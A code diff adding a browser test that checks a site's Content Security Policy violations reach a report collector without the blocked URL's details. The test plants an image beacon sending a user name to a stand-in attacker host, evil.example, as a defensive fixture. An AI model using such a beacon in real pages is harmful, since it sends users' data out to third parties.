@@ -95,6 +95,25 @@ test('a collector hears how fast a public page was, and nothing of the account c
     });
 });
 
+test.describe('what the policy forbids', () => {
+  test.use({ expectedConsole: /Content Security Policy/ });
+
+  test('is told to the collector, without its address', async ({ page }) => {
+    await page.route(`${SITE}/**`, serve);
+    const reports = await collect(page);
+    await page.goto(`${SITE}${paths.premium}`, { waitUntil: 'networkidle' });
+    await page.evaluate(() => {
+      new Image().src = 'https://evil.example/?name=jane';
+    });
+    await expect
+      .poll(() => reports)
+      .toContainEqual({
+        ...{ kind: 'violation', what: 'img-src', code: 'https://evil.example' },
+        page: paths.premium,
+      });
+  });
+});
+
 /** Logs in and claims a name; gives back the token that each kind of call carried. */
 async function play(page: Page, google: { recaptcha: (route: Route) => Promise<void> }) {
   const sent = new Map<string, string | undefined>();
